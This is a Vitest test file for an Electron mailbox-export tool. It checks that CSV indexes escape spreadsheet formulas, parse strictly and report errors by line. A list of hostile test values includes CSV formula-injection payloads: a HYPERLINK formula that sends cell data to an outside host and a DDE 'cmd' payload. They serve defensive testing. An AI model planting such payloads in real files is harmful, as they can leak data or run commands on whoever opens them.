import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { isAppError } from '../../electron/services/errors/app-error.ts';
import { BAG_FILES, emlPath } from '../../electron/services/handover/bag/bag-layout.ts';
import { csvCell, csvRow, parseCsv, readCsvFile, type CsvRecord } from '../../electron/services/handover/bag/csv.ts';
import { folderId } from '../../electron/services/handover/bag/folder-id.ts';
import { ExportState } from '../../electron/services/handover/export/export-state.ts';
import {
  MAILBAG_CSV_HEADER,
  MESSAGES_CSV_HEADER,
  writeIndexes,
} from '../../electron/services/handover/export/indexes.ts';
import type { MessageEntry } from '../../electron/services/handover/export/message-entry.ts';
import { planPlacement } from '../../electron/services/handover/export/placement.ts';
import type { FolderSnapshot } from '../../electron/services/handover/export/snapshot.ts';
import { listBagFiles } from '../../electron/services/handover/verify/bag-files.ts';
import { checkIndexes } from '../../electron/services/handover/verify/index-check.ts';
import { Problems } from '../../electron/services/handover/verify/problems.ts';
import { tempDir } from '../support/temp-dir.ts';

const tmp = tempDir('um-csv-');
afterAll(() => tmp.cleanup());

/** Values an attacker can put into a subject, an address or a folder name. */
const HOSTILE = [
  'Chỉ đạo về việc "khẩn", số 12/CĐ-UBND',
  'a,b,,c',
  'dòng một\r\ndòng hai\nba\rbốn',
  '"',
  '""',
  '",\r\n"',
  '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  "'=already quoted",
  'Trân trọng, Văn phòng UBND tỉnh Bình Phước — Ủy ban',
  ' =leading space is not a formula',
  '',
];

async function readAll(path: string, file = 'test.csv') {
  const out: CsvRecord[] = [];
  await readCsvFile(path, file, (r) => {
    out.push(r);
  });
  return out;
}

async function failureOf(p: Promise<unknown>) {
  const e = await p.then(
    () => null,
    (err: unknown) => err,
  );
  if (!isAppError(e)) throw new Error(`expected an AppError, got ${String(e)}`);
  return e;
}

describe('CSV cells', () => {
  it('quotes every field, doubles quotes, ends records with CRLF', () => {
    expect(csvRow(['Chỉ đạo', 'a,"b"', 'line\nbreak', 3, null])).toBe('"Chỉ đạo","a,""b""","line\nbreak","3",""\r\n');
  });

  it('neutralises what a spreadsheet would run as a formula, and only that', () => {
    for (const v of ['=1+1', '+1', '-1', '@A1', '\t=1', '\r=1', '\n=1', '\0=1'])
      expect(csvCell(v), JSON.stringify(v)).toBe(`'${v}`);
    for (const v of ['1-1', 'a=b', ' =1', "'=1", 'Đơn vị', '']) expect(csvCell(v), JSON.stringify(v)).toBe(v);
    // Numbers are the app's own (UIDs, sizes): never negative, never prefixed.
    expect(csvCell(-1)).toBe('-1');
    expect(csvCell(null)).toBe('');
  });

  it('reads back exactly the stored value of every hostile field, in memory and streamed', async () => {
    const text = HOSTILE.map((v, i) => csvRow([i, v, `${v}|${v}`])).join('');
    const stored = HOSTILE.map((v, i) => [String(i), csvCell(v), csvCell(`${v}|${v}`)]);
    expect(parseCsv(text)).toEqual(stored);
    const path = join(tmp.dir, 'hostile.csv');
    writeFileSync(path, text);
    const records = await readAll(path);
    expect(records.map((r) => r.fields)).toEqual(stored);
    // Each record starts on its own line, counting the line breaks inside fields.
    let line = 1;
    for (const [n, r] of records.entries()) {
      expect(r.line, `record ${n}`).toBe(line);
      line += (csvRow(stored[n] as string[]).match(/\r\n|\n|\r/g) ?? []).length;
    }
  });

  it('keeps a final record that is one empty field, and an empty last field', () => {
    expect(parseCsv('a\n""')).toEqual([['a'], ['']]);
    expect(parseCsv('"a","b"\r\n"c",""')).toEqual([
      ['a', 'b'],
      ['c', ''],
    ]);
    expect(parseCsv('"a","b"\r\n"c",""\r\n')).toEqual([
      ['a', 'b'],
      ['c', ''],
    ]);
    // Bare fields too (RFC 4180 allows them), with LF record ends.
    expect(parseCsv('a,b\nc,"d"')).toEqual([
      ['a', 'b'],
      ['c', 'd'],
    ]);
    expect(parseCsv('a,\r\n,b')).toEqual([
      ['a', ''],
      ['', 'b'],
    ]);
  });
});

describe('strict CSV reading', () => {
  const malformed: [name: string, text: string, line: number, code: string][] = [
    ['a quote inside a bare field', '"a","b"\r\nx"y",z\r\n', 2, 'INVALID_OPENING_QUOTE'],
    ['text after a closing quote', '"a","b"\r\n"c"d,"e"\r\n', 2, 'CSV_INVALID_CLOSING_QUOTE'],
    ['a quote never closed', '"a","b"\r\n"c","d\r\nmore\r\n', 2, 'CSV_QUOTE_NOT_CLOSED'],
    [
      'a bad record after fields with line breaks',
      '"a","b\r\nc"\r\n"d\r\n\r\ne","f"\r\n"g"\r\n',
      6,
      'CSV_RECORD_INCONSISTENT_FIELDS_LENGTH',
    ],
    ['a missing field', '"a","b"\r\n"c","d"\r\n"e"\r\n', 3, 'CSV_RECORD_INCONSISTENT_FIELDS_LENGTH'],
    ['an extra field', '"a","b"\r\n"c","d",""\r\n', 2, 'CSV_RECORD_INCONSISTENT_FIELDS_LENGTH'],
    ['an empty line', '"a","b"\r\n\r\n"c","d"\r\n', 2, 'CSV_RECORD_INCONSISTENT_FIELDS_LENGTH'],
    ['a record over 1 MiB', `"a"\r\n"${'x'.repeat(2 << 20)}"\r\n`, 2, 'CSV_MAX_RECORD_SIZE'],
  ];

  it.each(malformed)('refuses %s with one typed error naming the line', async (_name, text, line, code) => {
    let thrown: unknown = null;
    try {
      parseCsv(text, 'mailbag.csv');
    } catch (e) {
      thrown = e;
    }
    expect(isAppError(thrown)).toBe(true);
    expect(thrown).toMatchObject({ code: 'PACKAGE_INVALID', data: { file: 'mailbag.csv', line } });
    expect((thrown as Error).message).toContain(code);
    expect((thrown as { messageVi: string }).messageVi).toContain(
      `Tệp mailbag.csv của gói bàn giao bị lỗi ở dòng ${line}`,
    );

    const path = join(tmp.dir, `bad-${code}-${line}.csv`);
    writeFileSync(path, text);
    const streamed = await failureOf(readAll(path, 'mailbag.csv'));
    expect(streamed).toMatchObject({ code: 'PACKAGE_INVALID', data: { file: 'mailbag.csv', line } });
  });

  it('names the line of an error far into a large file, past the first chunks read', async () => {
    // About 4 MB: the reader takes 1 MB at a time. Every 100th record has a field with a line break.
    const good = (n: number) => csvRow([n, n % 100 === 0 ? `dòng ${n}\r\ntiếp` : `thư ${n}`, 'a'.repeat(200)]);
    let text = '';
    let line = 1;
    for (let n = 0; n < 15_000; n++) {
      text += good(n);
      line += n % 100 === 0 ? 2 : 1;
    }
    text += '"15000","thiếu một trường"\r\n';
    for (let n = 15_001; n < 18_000; n++) text += good(n);
    const path = join(tmp.dir, 'large.csv');
    writeFileSync(path, text);
    expect(text.length).toBeGreaterThan(3 << 20);
    const error = await failureOf(readAll(path, 'messages.csv'));
    expect(error).toMatchObject({ data: { file: 'messages.csv', line } });
    let sync: unknown = null;
    try {
      parseCsv(text, 'messages.csv');
    } catch (e) {
      sync = e;
    }
    expect(sync).toMatchObject({ data: { file: 'messages.csv', line } });
    // And a reader can stop early.
    let seen = 0;
    await readCsvFile(path, 'messages.csv', () => ++seen < 10);
    expect(seen).toBe(10);
  });

  it('passes a read error through as it is', async () => {
    const error = await readAll(join(tmp.dir, 'missing.csv')).catch((e: unknown) => e);
    expect((error as NodeJS.ErrnoException).code).toBe('ENOENT');
  });
});

describe("the export's CSV files", () => {
  it('store hostile envelope values and folder names so that reading gives each stored value back', async () => {
    const bag = join(tmp.dir, 'bag');
    const path = '=Lưu trữ/@Đã xử lý';
    const folder: FolderSnapshot = {
      id: folderId(path),
      dir: 'Luu_tru/Da_xu_ly',
      path,
      rawPath: path,
      delimiter: '/',
      specialUse: null,
      subscribed: true,
      selectable: true,
      attributes: [],
      uidValidity: '7',
      uidNext: 100,
      highestModseq: '9',
      messages: HOSTILE.length,
    };
    const entries: MessageEntry[] = HOSTILE.map((v, n) => ({
      uid: n + 1,
      size: 10 + n,
      sha256: 'a'.repeat(64),
      sha512: 'b'.repeat(128),
      flags: ['\\Seen'],
      keywords: ['$Forwarded'],
      internalDate: '2026-11-23T08:00:00+07:00',
      modseq: String(n + 1),
      messageId: `<${n}@binhphuoc.gov.vn>`,
      date: '2026-11-23T08:00:00+07:00',
      from: v,
      to: `-${v}`,
      cc: '',
      bcc: '',
      subject: v,
      contentType: 'text/plain',
      attachments: n,
    }));
    const state = new ExportState(bag);
    await state.begin({
      format: 'unit-mailbox-export-state/1',
      exportId: 'test',
      mailbox: 'vanphong@binhphuoc.gov.vn',
      startedAt: '2026-11-23T08:00:00+07:00',
      folders: [folder],
    });
    await state.append(folder.id, entries);
    await state.closeJournals();
    const journaled = new Map([[folder.id, new Set(entries.map((e) => e.uid))]]);
    const result = await writeIndexes(bag, [folder], state, planPlacement([folder], journaled), { sync: false });
    expect(result.messages).toBe(HOSTILE.length);

    const mailbag = (await readAll(join(bag, BAG_FILES.mailbag), BAG_FILES.mailbag)).map((r) => r.fields);
    expect(mailbag.shift()).toEqual([...MAILBAG_CSV_HEADER]);
    const col = (name: (typeof MAILBAG_CSV_HEADER)[number]) => MAILBAG_CSV_HEADER.indexOf(name);
    expect(mailbag.map((r) => r[col('Subject')])).toEqual(HOSTILE.map(csvCell));
    expect(mailbag.map((r) => r[col('From')])).toEqual(HOSTILE.map(csvCell));
    expect(mailbag.map((r) => r[col('To')])).toEqual(HOSTILE.map((v) => csvCell(`-${v}`)));
    expect(mailbag.map((r) => r[col('Message-Path')])).toEqual(HOSTILE.map(() => csvCell(path)));
    expect(mailbag.map((r) => r[col('Attachments')])).toEqual(HOSTILE.map((_, n) => String(n)));
    // No stored cell starts a formula.
    for (const row of mailbag) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);

    const messages = (await readAll(join(bag, BAG_FILES.messagesCsv), BAG_FILES.messagesCsv)).map((r) => r.fields);
    expect(messages.shift()).toEqual([...MESSAGES_CSV_HEADER]);
    expect(messages.map((r) => r[MESSAGES_CSV_HEADER.indexOf('folder')])).toEqual(HOSTILE.map(() => `'${path}`));
    // messages.jsonl keeps the exact values.
    const jsonl = readFileSync(join(bag, BAG_FILES.messagesJsonl), 'utf8')
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as { folder: string });
    expect(jsonl.map((o) => o.folder)).toEqual(HOSTILE.map(() => path));
  });
});

describe('verification of a malformed index', () => {
  it('reports one problem naming the line, not every message as unlisted', async () => {
    const bag = join(tmp.dir, 'bad-index');
    const id = folderId('INBOX');
    mkdirSync(join(bag, 'data/eml', id), { recursive: true });
    mkdirSync(join(bag, 'data/index'), { recursive: true });
    const row = (uid: number) =>
      csvRow(['INBOX', id, uid, '7', '', '', '', 1, 'a'.repeat(64), `<${uid}@x>`, '', emlPath(id, uid), uid]);
    for (const uid of [1, 2, 3]) writeFileSync(join(bag, emlPath(id, uid)), 'x');
    // Line 3: a quote inside a bare field.
    const text = `${csvRow(MESSAGES_CSV_HEADER)}${row(1)}"INBOX",x"y${row(2).slice(7)}${row(3)}`;
    writeFileSync(join(bag, BAG_FILES.messagesCsv), text);
    writeFileSync(join(bag, BAG_FILES.messagesJsonl), '');
    writeFileSync(join(bag, BAG_FILES.foldersJson), JSON.stringify([{ id, name: 'INBOX', messages: 3, bytes: 3 }]));
    const problems = new Problems();
    const result = await checkIndexes({
      dir: bag,
      files: await listBagFiles(bag),
      digests: Promise.resolve(new Map()),
      record: null,
      problems,
    });
    expect(problems.list).toEqual([
      {
        file: BAG_FILES.messagesCsv,
        kind: 'index',
        detail: `${BAG_FILES.messagesCsv} line 3: a quote inside an unquoted field (INVALID_OPENING_QUOTE)`,
      },
    ]);
    expect(result).toEqual({ messages: 3, folders: 1 });
  });
});
